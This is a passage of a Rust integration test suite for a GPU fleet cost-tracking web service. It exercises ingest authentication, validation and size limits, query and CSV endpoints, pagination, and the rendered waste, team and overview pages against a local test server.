//! Black-box HTTP tests: the router runs on a real socket (port 0) over a fresh SQLite store,
//! and a real HTTP client talks to it.
//!
//! Map: `ingest_*` the push contract of BRIEF section 3 (status codes, rejections, idempotency,
//! scopes, limits, gzip); `query_*` the query API (filters, CSV, errors); `page_*` the pages;
//! `auth_*` read tokens; `conn_*` slow, idle and oversized clients on raw connections;
//! `contract_*` the OpenAPI document against the running server (`src/openapi.rs` checks it
//! against the contract's table, the router and the validators).

use std::io::Write;
use std::time::Duration;

use chrono::{DateTime, Utc};
use gpuledger_ledger::{BodyLimits, Settings};
use gpuledger_store::{Role, Store};
use gpuledger_web::{AppState, ServerLimits, WebConfig};
use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::Instant;

struct App {
    base: String,
    store: Store,
    client: reqwest::Client,
    _dir: TempDir,
}

struct TempDir(std::path::PathBuf);
impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn now() -> DateTime<Utc> {
    "2026-12-02T12:00:00Z".parse().unwrap()
}

async fn app(config: WebConfig) -> App {
    use std::sync::atomic::{AtomicU32, Ordering};
    static N: AtomicU32 = AtomicU32::new(0);
    let dir = std::env::temp_dir().join(format!(
        "gpuledger-http-{}-{}",
        std::process::id(),
        N.fetch_add(1, Ordering::SeqCst)
    ));
    std::fs::create_dir_all(&dir).unwrap();
    let store = Store::open(
        &format!("sqlite://{}/t.db", dir.display()),
        Settings::default(),
    )
    .await
    .unwrap();
    let mut state = AppState::new(store.clone(), config);
    state.clock = std::sync::Arc::new(now);
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(gpuledger_web::serve(
        listener,
        state,
        std::future::pending(),
    ));
    App {
        base,
        store,
        client: reqwest::Client::new(),
        _dir: TempDir(dir),
    }
}

impl App {
    async fn token(&self, source: &str, teams: &[&str]) -> String {
        let teams: Vec<String> = teams.iter().map(|s| s.to_string()).collect();
        self.store
            .create_token(Role::Ingest, source, &teams)
            .await
            .unwrap()
    }

    async fn push(&self, token: Option<&str>, body: Vec<u8>, gzip: bool) -> (u16, Value) {
        let mut req = self
            .client
            .post(format!("{}/api/v1/ingest", self.base))
            .header("content-type", "application/json");
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        if gzip {
            req = req.header("content-encoding", "gzip");
        }
        let resp = req.body(body).send().await.unwrap();
        let status = resp.status().as_u16();
        (status, resp.json().await.unwrap_or(Value::Null))
    }

    async fn get(&self, path: &str) -> (u16, String) {
        let resp = self
            .client
            .get(format!("{}{path}", self.base))
            .send()
            .await
            .unwrap();
        (resp.status().as_u16(), resp.text().await.unwrap())
    }

    async fn get_json(&self, path: &str) -> Value {
        let (status, text) = self.get(path).await;
        assert_eq!(status, 200, "{path}: {text}");
        serde_json::from_str(&text).unwrap()
    }
}

const A: &str = "GPU-aaaaaaaa-0000-0000-0000-000000000001";
const B: &str = "GPU-bbbbbbbb-0000-0000-0000-000000000002";

fn inventory() -> Value {
    json!({"gpus": [
        {"uuid": A, "model": "NVIDIA H100 80GB HBM3", "host": "n1", "cluster": "c1", "cloud": "aws",
         "labels": {"team": "nlp", "env": "prod"}, "observed_at": "2026-12-02T10:30:00Z"},
        {"uuid": B, "model": "Tesla T4", "host": "n2", "cluster": "c2", "cloud": "gcp",
         "labels": {"team": "vision", "env": "dev"}, "observed_at": "2026-12-02T10:30:00Z"}
    ]})
}

fn bytes(v: &Value) -> Vec<u8> {
    serde_json::to_vec(v).unwrap()
}

/// The Waste page shows the first rows of each table, largest first, says how many more there
/// are, and links the CSV of the table, which has them all; its total is every finding's, as
/// `GET /api/v1/savings` totals them.
#[tokio::test]
async fn waste_page_shows_the_first_rows_and_the_csv_has_them_all() {
    let app = app(WebConfig::default()).await;
    let token = app.token("fleet", &[]).await;
    let n = 130;
    let mut gpus = Vec::new();
    let mut samples = Vec::new();
    for i in 0..n {
        let uuid = format!("GPU-{i:08x}-0000-0000-0000-00000000beef");
        gpus.push(
            json!({"uuid": uuid, "model": "Tesla T4", "host": format!("w{i}"),
            "labels": {"team": "vision"}, "observed_at": "2026-11-20T10:00:00Z"}),
        );
        for day in 20..=32 {
            let ts = if day <= 30 {
                format!("2026-11-{day:02}T10:00:00Z")
            } else {
                format!("2026-12-{:02}T11:30:00Z", day - 30)
            };
            samples.push(json!({"gpu_uuid": uuid, "ts": ts, "util_pct": 0}));
        }
    }
    let (status, out) = app
        .push(
            Some(&token),
            bytes(&json!({"gpus": gpus, "samples": samples})),
            false,
        )
        .await;
    assert_eq!(status, 200, "{out}");
    let (status, page) = app.get("/waste?range=7d").await;
    assert_eq!(status, 200);
    let table = &page[page.find(r#"<table id="idle-gpus""#).unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    // The header row, then the hundred rows shown.
    assert_eq!(table.matches("<tr").count() - 1, 100, "{table}");
    assert!(
        page.contains(r#"id="idle-gpus-more""#) && page.contains("30 more are in the"),
        "{page}"
    );
    // No other table is cut.
    assert_eq!(page.matches("more are in the").count(), 1);
    let (status, csv) = app.get("/waste?range=7d&csv=idle-gpus").await;
    assert_eq!(status, 200);
    assert_eq!(csv.lines().count(), 1 + n, "{csv}");
    // 130 T4s at $0.35 an hour: 130 × 255.50 a month, whether written or not.
    let savings = app.get_json("/api/v1/savings?range=7d").await;
    assert_eq!(savings["usd_per_month"], 33215.0);
    assert_eq!(savings["count"], n);
    assert_eq!(savings["next_offset"], Value::Null);
    assert!(page.contains(r#"id="waste-total">$33,215<"#), "{page}");
    // The lists a page at a time: the same items in the same order, the count and the total
    // of the whole list on every page, and where the next page starts.
    for list in ["/api/v1/savings?range=7d", "/api/v1/gpus?team=vision"] {
        let whole = app.get_json(list).await;
        assert_eq!(whole["items"].as_array().unwrap().len(), n, "{list}");
        let mut items = Vec::new();
        let mut offset = Some(0);
        while let Some(at) = offset {
            let page = app.get_json(&format!("{list}&limit=50&offset={at}")).await;
            assert_eq!(page["count"], n, "{list}");
            assert_eq!(page["offset"], at, "{list}");
            assert_eq!(page["usd_per_month"], whole["usd_per_month"], "{list}");
            let got = page["items"].as_array().unwrap();
            assert_eq!(got.len(), 50.min(n - at as usize), "{list} at {at}");
            items.extend(got.iter().cloned());
            offset = page["next_offset"].as_u64();
        }
        assert_eq!(Value::Array(items), whole["items"], "{list}");
        let past = app.get_json(&format!("{list}&offset=1000")).await;
        assert_eq!(past["items"], json!([]));
        assert_eq!(
            (&past["count"], &past["next_offset"]),
            (&json!(n), &Value::Null)
        );
        let (status, body) = app.get(&format!("{list}&limit=0")).await;
        assert_eq!(status, 400, "{body}");
        assert!(
            body.contains("limit: must be a whole number from 1 to 10000"),
            "{body}"
        );
    }
    let (status, csv) = app.get("/api/v1/gpus?format=csv&limit=20&offset=120").await;
    assert_eq!(status, 200);
    assert_eq!(csv.lines().count(), 1 + 10, "{csv}");
    // The team's page lists its first hundred GPUs by host, and its CSV all of them.
    let (status, page) = app.get("/teams/vision?range=7d").await;
    assert_eq!(status, 200);
    let table = &page[page.find(r#"<table id="team-gpus""#).unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    assert_eq!(table.matches("<tr").count() - 1, 100, "{table}");
    assert!(
        page.contains(r#"id="team-gpus-more">The first 100 rows, by host; 30 more"#),
        "{page}"
    );
    let (status, csv) = app.get("/teams/vision?range=7d&csv=team-gpus").await;
    assert_eq!(status, 200);
    assert_eq!(csv.lines().count(), 1 + n, "{csv}");
}

/// Allocated-idle workloads beyond what a page shows are still findings: the Waste page's table
/// counts them in its hidden rows, its CSV lists them all, and `GET /api/v1/savings` lists,
/// counts and totals every one, whether it is asked for a page of them or for all.
#[tokio::test]
async fn waste_every_allocated_idle_workload_is_counted_listed_and_totalled() {
    let app = app(WebConfig::default()).await;
    let token = app.token("fleet", &[]).await;
    let n = 130;
    let (mut gpus, mut samples, mut allocations) = (Vec::new(), Vec::new(), Vec::new());
    for i in 0..n {
        let uuid = format!("GPU-{i:08x}-0000-0000-0000-0000000a110c");
        gpus.push(
            json!({"uuid": uuid, "model": "Tesla T4", "host": format!("w{i}"),
            "labels": {"team": "vision"}, "observed_at": "2026-11-30T09:00:00Z"}),
        );
        // Busy two days before: not an idle GPU, only its workload is waste.
        samples.push(json!({"gpu_uuid": uuid, "ts": "2026-11-30T10:00:00Z", "util_pct": 90}));
        // Idle and allocated for two to four hours, the last one just now (not missing): the
        // workloads differ in cost.
        for h in 0..(1 + i % 3) {
            samples.push(
                json!({"gpu_uuid": uuid, "ts": format!("2026-12-01T{:02}:30:00Z", 10 + h),
                "util_pct": 0}),
            );
        }
        samples.push(json!({"gpu_uuid": uuid, "ts": "2026-12-02T11:30:00Z", "util_pct": 0}));
        allocations.push(
            json!({"gpu_uuid": uuid, "start": "2026-12-01T00:00:00Z", "end": null,
            "workload": format!("vision-dev/notebook-{i}"), "kind": "pod", "team": "vision"}),
        );
    }
    let body = json!({"gpus": gpus, "samples": samples, "allocations": allocations});
    let (status, out) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{out}");
    assert_eq!(out["rejected"], json!([]));

    let whole = app.get_json("/api/v1/savings?range=7d").await;
    let items = whole["items"].as_array().unwrap();
    let kinds: Vec<&str> = items.iter().map(|x| x["kind"].as_str().unwrap()).collect();
    assert_eq!(whole["count"], n, "{kinds:?}");
    assert_eq!(items.len(), n);
    assert!(
        kinds.iter().all(|k| *k == "allocated but idle"),
        "{kinds:?}"
    );
    // The total is every workload's (each item is rounded to the cent, the total once).
    let sum: f64 = items
        .iter()
        .map(|x| x["usd_per_month"].as_f64().unwrap())
        .sum();
    let total = whole["usd_per_month"].as_f64().unwrap();
    assert!(
        total > 0.0 && (total - sum).abs() <= 0.005 * n as f64 + 0.01,
        "{total} vs {sum}"
    );
    // A page of them: the same count and total, the same items.
    let mut listed = Vec::new();
    let mut offset = Some(0);
    while let Some(at) = offset {
        let page = app
            .get_json(&format!("/api/v1/savings?range=7d&limit=10&offset={at}"))
            .await;
        assert_eq!(page["count"], n);
        assert_eq!(page["usd_per_month"], whole["usd_per_month"]);
        listed.extend(page["items"].as_array().unwrap().iter().cloned());
        offset = page["next_offset"].as_u64();
    }
    assert_eq!(&listed, items);

    let (status, page) = app.get("/waste?range=7d").await;
    assert_eq!(status, 200);
    let table = &page[page.find(r#"<table id="allocated-idle""#).unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    assert_eq!(table.matches("<tr").count() - 1, 100, "{table}");
    assert!(
        page.contains(r#"id="allocated-idle-more""#) && page.contains("30 more are in the"),
        "{page}"
    );
    assert_eq!(money(by_id(&page, "waste-total")), Some(total.round()));
    let (status, csv) = app.get("/waste?range=7d&csv=allocated-idle").await;
    assert_eq!(status, 200);
    assert_eq!(csv.lines().count(), 1 + n, "{csv}");
    // The Overview's top findings are the most expensive workloads.
    let (status, overview) = app.get("/?range=7d").await;
    assert_eq!(status, 200);
    let first = items[0]["what"].as_str().unwrap();
    assert!(overview.contains(first), "{first} {overview}");
}

#[tokio::test]
async fn ingest_without_or_with_unknown_token_is_401() {
    let app = app(WebConfig::default()).await;
    let (status, body) = app.push(None, bytes(&inventory()), false).await;
    assert_eq!(status, 401);
    assert!(body["error"]
        .as_str()
        .unwrap()
        .contains("Authorization: Bearer"));
    let (status, _) = app.push(Some("glt_nope"), bytes(&inventory()), false).await;
    assert_eq!(status, 401);
}

#[tokio::test]
async fn ingest_one_bad_sample_among_good_ones_keeps_the_good_and_names_the_bad() {
    let app = app(WebConfig::default()).await;
    let token = app.token("team-push", &[]).await;
    let mut body = inventory();
    body["samples"] = json!([
        {"gpu_uuid": A, "ts": "2026-12-02T10:40:00Z", "util_pct": 40},
        {"gpu_uuid": A, "ts": "2026-12-02T10:45:00Z", "util_pct": 250},
        {"gpu_uuid": A, "ts": "2026-12-02T10:50:00Z", "util_pct": 60}
    ]);
    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(
        reply["accepted"],
        json!({"gpus": 2, "samples": 2, "allocations": 0})
    );
    assert_eq!(
        reply["rejected"],
        json!([{"path": "samples[1].util_pct", "reason": "must be within 0..=100, got 250"}])
    );
    let d = app
        .get_json(&format!("/api/v1/gpus/{A}?from=2026-12-02T00:00:00Z"))
        .await;
    let hour = d["hours"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["hour"] == "2026-12-02T10:00:00Z")
        .unwrap()
        .clone();
    assert_eq!(
        (hour["samples"].as_i64(), hour["activity_pct"].as_f64()),
        (Some(2), Some(50.0))
    );

    // Re-sending the same body stores nothing twice.
    let before = app.get_json("/api/v1/summary?from=2026-12-02").await;
    let (status, again) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200);
    assert_eq!(again["duplicates"]["samples"], 2);
    assert_eq!(again["duplicates"]["gpus"], 2);
    assert_eq!(
        app.get_json("/api/v1/summary?from=2026-12-02").await,
        before
    );
}

#[tokio::test]
async fn ingest_team_scoped_token_writing_another_team_is_403() {
    let app = app(WebConfig::default()).await;
    let any = app.token("central", &[]).await;
    app.push(Some(&any), bytes(&inventory()), false).await;
    let nlp = app.token("nlp-cron", &["nlp"]).await;
    let body = json!({"samples": [{"gpu_uuid": B, "ts": "2026-12-02T10:40:00Z", "util_pct": 40}]});
    let (status, reply) = app.push(Some(&nlp), bytes(&body), false).await;
    assert_eq!(status, 403, "{reply}");
    assert!(reply["rejected"][0]["reason"]
        .as_str()
        .unwrap()
        .contains("owned by team `vision`"));
    // Its own team's GPU is fine.
    let body = json!({"samples": [{"gpu_uuid": A, "ts": "2026-12-02T10:40:00Z", "util_pct": 40}]});
    assert_eq!(app.push(Some(&nlp), bytes(&body), false).await.0, 200);
}

#[tokio::test]
async fn ingest_limits_give_413_and_bad_bodies_400() {
    let limits = BodyLimits {
        max_body_bytes: 4096,
        max_decompressed_bytes: 16 * 1024,
    };
    let app = app(WebConfig {
        limits,
        ..Default::default()
    })
    .await;
    let token = app.token("p", &[]).await;
    let big = vec![b' '; 5000];
    assert_eq!(app.push(Some(&token), big, false).await.0, 413);
    // A small gzip body that inflates past the decompressed limit.
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    enc.write_all(&vec![b' '; 100_000]).unwrap();
    let bomb = enc.finish().unwrap();
    assert!(bomb.len() < 4096);
    let (status, reply) = app.push(Some(&token), bomb, true).await;
    assert_eq!(status, 413, "{reply}");
    let (status, reply) = app.push(Some(&token), b"{not json".to_vec(), false).await;
    assert_eq!(status, 400);
    assert!(reply["error"]
        .as_str()
        .unwrap()
        .starts_with("body is not valid JSON"));
    // A gzip body within the limits is read.
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(&bytes(&inventory())).unwrap();
    let (status, reply) = app.push(Some(&token), enc.finish().unwrap(), true).await;
    assert_eq!((status, reply["accepted"]["gpus"].as_i64()), (200, Some(2)));
}

#[tokio::test]
async fn query_filters_csv_and_errors() {
    let app = app(WebConfig::default()).await;
    let token = app.token("p", &[]).await;
    app.push(Some(&token), bytes(&inventory()), false).await;
    let list = app.get_json("/api/v1/gpus?team=vision").await;
    assert_eq!(list["count"], 1);
    assert_eq!(list["items"][0]["uuid"], B);
    let item = &list["items"][0];
    for field in [
        "uuid",
        "model",
        "memory_mib",
        "host",
        "cluster",
        "cloud",
        "region",
        "instance_type",
        "team",
        "env",
        "owner_reason",
        "state",
        "first_seen",
        "last_seen",
        "usd_per_hour",
        "rate_origin",
        "mig_parent_uuid",
        "mig_profile",
    ] {
        assert!(item.get(field).is_some(), "missing {field}");
    }
    assert_eq!(item["state"], "present");
    assert_eq!(
        app.get_json("/api/v1/gpus?team=vision,nlp").await["count"],
        2
    );
    assert_eq!(
        app.get_json("/api/v1/gpus?team=vision&team=nlp&cloud=aws")
            .await["count"],
        1
    );
    let (status, csv) = app.get("/api/v1/gpus?format=csv&model=Tesla%20T4").await;
    assert_eq!(status, 200);
    let mut lines = csv.lines();
    assert!(lines
        .next()
        .unwrap()
        .starts_with("uuid,model,memory_mib,host,cluster,cloud"));
    assert!(lines.next().unwrap().starts_with(&format!("{B},Tesla T4,")));
    assert_eq!(lines.next(), None);
    let (status, csv) = app
        .get("/api/v1/summary?group_by=cloud&format=csv&from=2026-12-02")
        .await;
    assert_eq!(status, 200);
    assert!(csv.lines().any(|l| l.starts_with("aws,1,")), "{csv}");
    assert!(csv.lines().last().unwrap().starts_with("total,2,"), "{csv}");
    let (status, body) = app.get("/api/v1/summary?group_by=colour").await;
    assert_eq!(status, 400);
    assert!(body.contains("group_by: must be one of"), "{body}");
    let (status, body) = app.get("/api/v1/gpus?tema=x").await;
    assert_eq!(status, 400);
    assert!(body.contains("unknown query parameter `tema`"));
    assert_eq!(app.get("/api/v1/gpus/GPU-none").await.0, 404);
    let sources = app.get_json("/api/v1/sources").await;
    assert_eq!(sources["items"][0]["name"], "p");
    assert_eq!(sources["items"][0]["status"], "ok");
    let doc = app.get_json("/api/v1/openapi.json").await;
    assert_eq!(doc["openapi"], "3.0.3");
}

#[tokio::test]
async fn page_overview_shows_totals_and_demo_label() {
    let app = app(WebConfig {
        demo: true,
        ..Default::default()
    })
    .await;
    let token = app.token("p", &[]).await;
    let mut body = inventory();
    body["samples"] = json!([{"gpu_uuid": A, "ts": "2026-12-02T10:40:00Z", "util_pct": 40}]);
    app.push(Some(&token), bytes(&body), false).await;
    let (status, html) = app.get("/").await;
    assert_eq!(status, 200);
    assert!(html.contains("Demo data"));
    assert!(html.contains(r#"id="gpus-present">2<"#), "{html}");
    // Both present 10:00–11:59 (hour 12 has not started at 12:00:00): 2 h × 12.29 + 2 h × 0.35.
    assert!(html.contains(r#"id="cost">$25.28<"#), "{html}");
    // One hour of A is known (40 %); every other hour is unknown, not 0 %.
    assert!(html.contains(r#"id="avg-activity">40.0 %<"#));
    assert!(html.contains(r#"id="unknown-share">75.0 %<"#));
    let (status, filtered) = app.get("/?team=vision").await;
    assert_eq!(status, 200);
    assert!(filtered.contains(r#"id="avg-activity">unknown<"#));
    assert!(
        filtered.contains(r#"<option value="vision" selected>"#),
        "the filter bar shows the filter"
    );
    assert_eq!(app.get("/?teem=x").await.0, 400);
}

#[tokio::test]
async fn auth_reads_need_a_viewer_token_when_configured() {
    let app = app(WebConfig {
        read_requires_token: true,
        ..Default::default()
    })
    .await;
    assert_eq!(app.get("/api/v1/gpus").await.0, 401);
    assert_eq!(app.get("/").await.0, 401);
    let viewer = app
        .store
        .create_token(Role::Viewer, "dashboards", &[])
        .await
        .unwrap();
    let resp = app
        .client
        .get(format!("{}/api/v1/gpus", app.base))
        .bearer_auth(&viewer)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let (status, reply) = app.push(Some(&viewer), bytes(&inventory()), false).await;
    assert_eq!(status, 403);
    assert!(reply["error"]
        .as_str()
        .unwrap()
        .contains("viewer token cannot write"));
    assert_eq!(app.get("/healthz").await.0, 200);
}

/// A small fleet with an idle allocated GPU, a missing GPU and a MIG instance, for the pages.
async fn page_fleet(app: &App) {
    let token = app.token("rack-push", &[]).await;
    let body = json!({
        "gpus": [
            {"uuid": A, "model": "NVIDIA H100 80GB HBM3", "memory_mib": 81559, "host": "n1", "cluster": "c1", "cloud": "aws",
             "labels": {"team": "nlp", "env": "prod"}, "observed_at": "2026-12-02T10:30:00Z"},
            {"uuid": "MIG-aaaaaaaa-0000-0000-0000-0000000000a1", "model": "NVIDIA H100 80GB HBM3", "host": "n1",
             "mig_parent_uuid": A, "mig_profile": "3g.40gb", "labels": {"team": "nlp"}, "observed_at": "2026-12-02T10:30:00Z"},
            {"uuid": B, "model": "Tesla T4", "memory_mib": 15360, "host": "n2", "cluster": "c2", "cloud": "gcp",
             "labels": {"team": "vision", "env": "dev"}, "observed_at": "2026-12-01T06:00:00Z"}
        ],
        "samples": [
            {"gpu_uuid": A, "ts": "2026-12-02T10:40:00Z", "util_pct": 2, "mem_used_mib": 1000},
            {"gpu_uuid": A, "ts": "2026-12-02T11:40:00Z", "util_pct": 1, "mem_used_mib": 1000},
            {"gpu_uuid": B, "ts": "2026-12-01T06:10:00Z", "util_pct": 90}
        ],
        "allocations": [
            {"gpu_uuid": A, "start": "2026-12-02T10:00:00Z", "end": null, "workload": "nlp-dev/notebook-7", "kind": "pod", "user": "ana", "team": "nlp"}
        ]
    });
    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["rejected"], json!([]));
}

#[tokio::test]
async fn page_every_page_renders_the_same_numbers_as_the_api() {
    let app = app(WebConfig::default()).await;
    page_fleet(&app).await;
    let summary = app.get_json("/api/v1/summary?range=7d").await;
    // Overview totals equal the summary's.
    let (_, html) = app.get("/?range=7d").await;
    let cost = format!(
        r#"id="cost">${:.2}<"#,
        summary["total"]["cost_usd"].as_f64().unwrap()
    );
    assert!(html.contains(&cost), "{cost}");
    assert!(html.contains(r#"id="gpu-hours">"#));
    // The spend-by-team table's CSV is exactly what is shown, and matches the API.
    let (status, csv) = app.get("/?range=7d&csv=spend-by-team").await;
    assert_eq!(status, 200);
    let nlp = summary["groups"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["key"] == "nlp")
        .unwrap();
    let line = csv.lines().find(|l| l.starts_with("nlp,")).unwrap();
    assert!(
        line.contains(&format!("${:.2}", nlp["cost_usd"].as_f64().unwrap())),
        "{line}"
    );
    let (status, body) = app.get("/?csv=nope").await;
    assert_eq!(status, 400);
    assert!(
        body.contains("<h1>400 Bad Request</h1>") && body.contains("no table `nope`"),
        "a page's error is a page that says what to change: {body}"
    );

    // Inventory: both GPUs, the MIG instance folded under its GPU, links to the GPU page.
    let (status, inv) = app.get("/inventory?team=nlp,vision").await;
    assert_eq!(status, 200);
    assert!(
        inv.contains("2 GPUs (1 present, 1 missing), 1 MIG instances"),
        "{inv}"
    );
    assert!(inv.contains(r#"<tr class="child">"#));
    assert!(
        inv.contains(&format!(
            r#"href="/gpus/{A}?team=nlp&#38;team=vision&#38;range=30d""#
        )),
        "filters and the range carry over into links"
    );
    let (_, csv) = app.get("/inventory?csv=inventory&sort=cost").await;
    assert_eq!(
        csv.lines().count(),
        1 + 3,
        "header, two GPUs, one MIG row: {csv}"
    );
    assert_eq!(app.get("/inventory?sort=colour").await.0, 400);

    // GPU page: attributes with their why, the allocation, provenance.
    let (status, gpu) = app.get(&format!("/gpus/{A}")).await;
    assert_eq!(status, 200);
    assert!(gpu.contains("owner: nlp — label `team=nlp`"));
    assert!(gpu.contains("nlp-dev/notebook-7"));
    assert!(gpu.contains("built-in default (H100)"));
    assert!(gpu.contains("rack-push at 2026-12-02 10:30"));
    assert_eq!(app.get("/gpus/GPU-none").await.0, 404);

    // Teams: owned and used, linked to the team page.
    let (_, teams) = app.get("/teams?range=7d").await;
    assert!(teams.contains(r#"href="/teams/nlp?range=7d""#), "{teams}");
    let (status, team) = app.get("/teams/nlp?range=7d").await;
    assert_eq!(status, 200);
    assert!(team.contains("nlp-dev/notebook-7") && team.contains(A));

    // Usage: series, heatmap and distribution.
    let (status, usage) = app.get("/usage?range=7d").await;
    assert_eq!(status, 200);
    assert!(usage.contains("mean activity") && usage.contains("activity-distribution"));

    // Waste: the allocated-idle notebook and the missing T4, each with $ per month.
    let (status, waste) = app.get("/waste?range=7d").await;
    assert_eq!(status, 200);
    assert!(waste.contains("nlp-dev/notebook-7"));
    let (_, missing) = app.get("/waste?range=7d&csv=missing").await;
    assert!(
        missing.contains(B) && missing.contains(",$255"),
        "0.35 × 730 = $255.50, shown in whole dollars: {missing}"
    );
    assert_eq!(app.get("/waste?idle_days=0").await.0, 400);
    // The same findings as JSON for tools: largest first, with team and evidence.
    let s = app.get_json("/api/v1/savings?range=7d").await;
    let items = s["items"].as_array().unwrap();
    let missing = items.iter().find(|i| i["kind"] == "missing GPU").unwrap();
    assert_eq!(missing["usd_per_month"], 255.5);
    assert_eq!(missing["evidence"], format!("/gpus/{B}?range=7d"));
    assert!(items.iter().any(|i| i["kind"] == "allocated but idle"
        && i["what"].as_str().unwrap().contains("nlp-dev/notebook-7")));
    let sum: f64 = items
        .iter()
        .map(|i| i["usd_per_month"].as_f64().unwrap())
        .sum();
    assert!((s["usd_per_month"].as_f64().unwrap() - sum).abs() < 0.05);
    assert!(items
        .windows(2)
        .all(|w| w[0]["usd_per_month"].as_f64() >= w[1]["usd_per_month"].as_f64()));

    // Sources: the pushing source with its freshness; a stale one raises the banner.
    let (_, sources) = app.get("/sources").await;
    assert!(sources.contains("rack-push"));
    assert!(!sources.contains("stale-banner"));
}

/// The low-memory finding reads each GPU's peak memory over the window, today's hours included:
/// a GPU whose use stays at 2.5 % of its memory is one on the waste page, the savings list and
/// the overview; one that used 86 % in the last hour is not.
#[tokio::test]
async fn waste_a_gpu_whose_peak_memory_stays_low_is_a_finding() {
    let app = app(WebConfig::default()).await;
    let token = app.token("rack-push", &[]).await;
    let (low, high) = (
        "GPU-cccccccc-0000-0000-0000-000000000003",
        "GPU-dddddddd-0000-0000-0000-000000000004",
    );
    let gpus: Vec<Value> = [(low, "n3"), (high, "n4")]
        .iter()
        .map(|(g, host)| {
            json!({"uuid": g, "model": "NVIDIA H100 80GB HBM3", "memory_mib": 81559, "host": host,
                   "labels": {"team": "nlp"}, "observed_at": "2026-12-01T00:00:00Z"})
        })
        .collect();
    let start: DateTime<Utc> = "2026-12-01T00:30:00Z".parse().unwrap();
    let mut samples = Vec::new();
    for h in 0..36 {
        let ts = start + chrono::Duration::hours(h);
        for g in [low, high] {
            let mem = if g == high && h == 34 { 70_000 } else { 2_000 };
            samples.push(
                json!({"gpu_uuid": g, "ts": ts.to_rfc3339(), "util_pct": 50, "mem_used_mib": mem}),
            );
        }
    }
    let body = json!({"gpus": gpus, "samples": samples});
    let (status, reply) = app.push(Some(&token), bytes(&body), false).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(reply["rejected"], json!([]));

    let s = app.get_json("/api/v1/savings?range=7d").await;
    let low_memory: Vec<&Value> = s["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["kind"] == "memory far below capacity")
        .collect();
    assert_eq!(low_memory.len(), 1, "{s}");
    assert_eq!(low_memory[0]["evidence"], format!("/gpus/{low}?range=7d"));
    assert!(low_memory[0]["detail"]
        .as_str()
        .unwrap()
        .contains("peak memory 2 %"));
    let (_, table) = app.get("/waste?range=7d&csv=low-memory").await;
    assert!(table.contains(low) && table.contains("2 %"), "{table}");
    assert!(!table.contains(high), "{table}");
    let (_, overview) = app.get("/?range=7d").await;
    assert!(overview.contains("memory far below capacity"));
}

#[tokio::test]
async fn api_teams_lists_the_registry_and_unregistered_owners() {
    let mut teams = std::collections::BTreeMap::new();
    teams.insert(
        "nlp".to_string(),
        gpuledger_model::TeamInfo {
            display_name: Some("Language".into()),
            manager: Some("Ana Ruiz".into()),
            cost_center: Some("CC-4410".into()),
        },
    );
    teams.insert("finance".to_string(), Default::default());
    let app = app(WebConfig {
        teams,
        ..Default::default()
    })
    .await;
    let token = app.token("p", &[]).await;
    assert_eq!(
        app.push(Some(&token), bytes(&inventory()), false).await.0,
        200
    );
    let t = app.get_json("/api/v1/teams").await;
    let by: std::collections::BTreeMap<String, serde_json::Value> = t["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["name"].as_str().unwrap().to_string(), i.clone()))
        .collect();
    assert_eq!(by["nlp"]["manager"], "Ana Ruiz");
    assert_eq!(
        (
            by["nlp"]["registered"].as_bool(),
            by["nlp"]["gpus"].as_u64()
        ),
        (Some(true), Some(1))
    );
    assert_eq!(
        (
            by["finance"]["registered"].as_bool(),
            by["finance"]["gpus"].as_u64()
        ),
        (Some(true), Some(0))
    );
    assert_eq!(
        by["vision"]["registered"], false,
        "owns a GPU, not in the registry"
    );
    let t = app.get_json("/api/v1/teams?team=vision").await;
    assert_eq!(
        t["items"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|i| i["gpus"] != 0)
            .count(),
        1
    );
}

/// The worked example of docs/definitions.md ("Owned by, used by, and shared GPUs"), computed
/// by hand: a time-sliced T4 of nlp shared by two teams' pods, and an A100 of vision split
/// into MIG instances used by both teams. Window 2026-12-02 08:00–12:00.
#[tokio::test]
async fn worked_example_owner_used_by_and_shared_costs_to_the_cent() {
    let app = app(WebConfig::default()).await;
    let token = app.token("lab", &[]).await;
    const T: &str = "GPU-7e570000-0000-0000-0000-0000000000t4";
    const M: &str = "GPU-a1000000-0000-0000-0000-00000000a100";
    let m1 = format!("MIG-{}", "a1000000-0000-0000-0000-0000000000m1");
    let m2 = format!("MIG-{}", "a1000000-0000-0000-0000-0000000000m2");
    let gpu = |uuid: &str, model: &str, team: &str, parent: Option<&str>, at: &str| {
        json!({"uuid": uuid, "model": model, "host": "lab-1", "labels": {"team": team, "env": "prod"},
               "mig_parent_uuid": parent, "mig_profile": parent.map(|_| "3g.20gb"), "observed_at": at})
    };
    let body = json!({
        "gpus": [
            gpu(T, "Tesla T4", "nlp", None, "2026-12-02T08:00:00Z"),
            gpu(M, "NVIDIA A100-SXM4-40GB", "vision", None, "2026-12-02T08:00:00Z"),
            gpu(&m1, "NVIDIA A100-SXM4-40GB MIG 3g.20gb", "vision", Some(M), "2026-12-02T08:00:00Z"),
            gpu(&m2, "NVIDIA A100-SXM4-40GB MIG 3g.20gb", "vision", Some(M), "2026-12-02T08:00:00Z"),
            gpu(M, "NVIDIA A100-SXM4-40GB", "vision", None, "2026-12-02T10:00:00Z"),
        ],
        "samples": [
